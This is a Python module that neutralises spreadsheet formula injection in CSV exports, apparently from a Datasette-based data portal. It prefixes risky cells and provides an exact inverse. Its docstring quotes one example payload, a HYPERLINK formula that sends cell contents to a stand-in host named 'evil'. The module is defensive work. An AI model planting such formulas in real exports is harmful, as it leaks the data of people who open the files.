"""Spreadsheet formula injection: a CSV cell such as `=HYPERLINK("http://evil/?"&A1)` or
`@SUM(...)` runs as a formula when the file is opened in Excel or LibreOffice. OWASP's advice:
prefix a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return with `'`, which
spreadsheets read as "text follows" and do not show.

Two refinements keep the data exact:
- A cell that is a plain number (`-3.5`, `+86`, `-1e5`) is left alone: a spreadsheet reads it
  as that number, not as a formula, and a prefix would turn numbers into text.
- Leading `'` are looked through: `'=x` gets a `'` too (`''=x`), so `restore` can undo the
  prefix for every cell, and a spreadsheet shows `'=x` as it is in the data.

`neutralise` is applied to Datasette's CSV (plugins/csv_safety.py), to the data dictionary
CSV (gongkai.portal.dictionary) and to the build's rejected-rows files (gongkai.rejected_rows,
which is why this module sits outside portal/); `restore` is its exact inverse (the round-trip
test).
"""

from __future__ import annotations

import re

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PREFIX = "'"
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def _dangerous(text: str) -> bool:
    body = text.lstrip(PREFIX)
    return body.startswith(TRIGGERS) and not _PLAIN_NUMBER.fullmatch(body)


def neutralise(value):
    """The cell as a spreadsheet may safely read it. Non-strings (numbers, None) are unchanged."""
    if isinstance(value, str) and value and _dangerous(value):
        return PREFIX + value
    return value


def restore(text: str) -> str:
    """The original cell text of a neutralised cell (the inverse of `neutralise` on strings)."""
    if text.startswith(PREFIX) and _dangerous(text[1:]):
        return text[1:]
    return text


def neutralise_row(row):
    return [neutralise(cell) for cell in row]
